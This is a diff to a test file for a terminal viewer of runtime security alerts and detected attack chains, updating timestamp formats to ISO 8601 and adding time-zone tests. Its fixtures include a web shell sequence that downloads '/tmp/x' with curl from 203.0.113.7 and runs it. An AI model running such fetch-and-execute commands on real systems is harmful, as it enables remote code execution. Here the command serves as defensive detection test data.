@@ -43,8 +43,8 @@ async function chainsScreen(on: CaseSource = source): Promise<{ frame: string; s
 }
 
 const lines = (frame: string): string[] => frame.split('\n');
-const matchLine = (frame: string): string => lines(frame).find((l) => /^› \d\d:\d\d:/.test(l)) ?? '';
-const stepLine = (frame: string): string => lines(frame).find((l) => /^› [a-z]+ +\d\d:/.test(l)) ?? '';
+const matchLine = (frame: string): string => lines(frame).find((l) => /^› \d{4}-\d\d-\d\dT\d\d:/.test(l)) ?? '';
+const stepLine = (frame: string): string => lines(frame).find((l) => /^› [a-z]+ +\d{4}-/.test(l)) ?? '';
 
 describe('chains screen', () => {
   it('lists the matches by start time with last-step time, priority, chain, host/container and output', async () => {
@@ -56,25 +56,41 @@ describe('chains screen', () => {
     const payload = all.findIndex((l) => l.includes('Web service shell fetches'));
     expect(host).toBeGreaterThan(-1);
     expect(payload).toBeGreaterThan(host); // bash started before the web shell, though stored later
-    expect(all[host]).toMatch(/^› 13:20:19\.426 {2}Notice {4}Interactive shell reads hos… {2}node-1\/host {2}bash read \/etc\/hostname/);
-    expect(all[payload]).toMatch(/^ {2}13:20:16\.425 {2}Critical {2}Web service shell fetches a… {2}node-1\/3f9a1c0e2b7d {2}payload run from \/tmp\/…$/);
+    expect(all[host]).toMatch(/^› 2024-11-28T13:20:19\.426\d{6}Z {2}Notice {4}Interactive shell reads hos… {2}node-1\/host {2}bash read \/e…$/); // cut to the 100 columns
+    expect(all[payload]).toMatch(/^ {2}2024-11-28T13:20:16\.425\d{6}Z {2}Critical {2}Web service shell fetches a… {2}node-1\/3f9a1c0e2b7d {2}payl…$/);
     // A wider terminal shows more of the output.
-    Object.defineProperty(stdout, 'columns', { value: 160, configurable: true });
+    Object.defineProperty(stdout, 'columns', { value: 180, configurable: true });
     stdout.emit('resize');
     const wide = await waitForFrame(lastFrame, (f) => f.includes('payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x'));
     expect(wide).toContain('bash read /etc/hostname');
     expect(wide).toContain('· 2 alerts · 2 chains'); // the header counts the stored matches
   });
 
+  it('prints times as the CLI does: ISO 8601 UTC by default, or the --tz zone / --time-format falco the TUI was given', async () => {
+    app = render(<App source={source} fallbackSize={{ columns: 100, rows: 30 }} timeStyle={{ format: 'iso', tz: 'America/New_York' }} />);
+    let frame = await waitForFrame(app.lastFrame, (f) => f.includes('Containers'));
+    frame = await press(app.stdin, app.lastFrame, '4', (f) => f.includes('[4 Chains]'));
+    expect(frame).toMatch(/^› 2024-11-28T08:20:19\.426800000-05:00 {2}Notice/m);
+    app.unmount();
+    app = render(<App source={source} fallbackSize={{ columns: 100, rows: 30 }} timeStyle={{ format: 'falco' }} />);
+    await waitForFrame(app.lastFrame, (f) => f.includes('Containers'));
+    frame = await press(app.stdin, app.lastFrame, '3', (f) => f.includes('[3 Alerts]'));
+    expect(frame).toMatch(/^[› ] Warning {3}13:20:\d\d\.\d{9} {2}Read sensitive file untrusted/m);
+  });
+
   it("shows the selected match's steps with their exec, process, command line and lineage path", async () => {
     const { stdin, lastFrame } = await chainsScreen();
     const frame = await press(stdin, lastFrame, 'j', (f) => matchLine(f).includes('Web service shell'));
-    expect(frame).toContain('3 steps · 13:20:15.016 → 13:20:16.425 (1.4 s)');
-    expect(stepLine(frame)).toMatch(new RegExp(`^› shell {2}13:20:15\\.016 {2}exec ${chains.execs.sh} {2}sh,4001 {2}sh -c curl -s -o /tmp/x`));
+    expect(frame).toMatch(/3 steps · 2024-11-28T13:20:15\.016\d{6}Z → 2024-11-28T13:20:16\.425\d{6}Z \(1\.4 s\)/);
+    expect(stepLine(frame)).toMatch(
+      new RegExp(`^› shell {2}2024-11-28T13:20:15\\.016\\d{6}Z {2}exec ${chains.execs.sh} {2}sh,4001 {2}sh -c curl -s -o /tmp/x`),
+    );
     expect(frame).toContain('    nginx,2351 → sh,4001');
-    expect(frame).toMatch(new RegExp(`  fetch  13:20:15\\.017  exec ${chains.execs.curl}  curl,4002  curl -s -o /tmp/x http://203\\.0\\.113\\.7/x`));
+    expect(frame).toMatch(
+      new RegExp(`  fetch  2024-11-28T13:20:15\\.017\\d{6}Z  exec ${chains.execs.curl}  curl,4002  curl -s -o /tmp/x http://203\\.0\\.113\\.7/x`),
+    );
     expect(frame).toContain('    descendant_of shell: sh,4001 → curl,4002');
-    expect(frame).toMatch(new RegExp(`  run    13:20:16\\.425  exec ${chains.execs.x}  x,4005  x`));
+    expect(frame).toMatch(new RegExp(`  run    2024-11-28T13:20:16\\.425\\d{6}Z  exec ${chains.execs.x}  x,4005  x`));
     expect(frame).toContain('    descendant_of shell: sh,4001 → x,4005');
   });
 
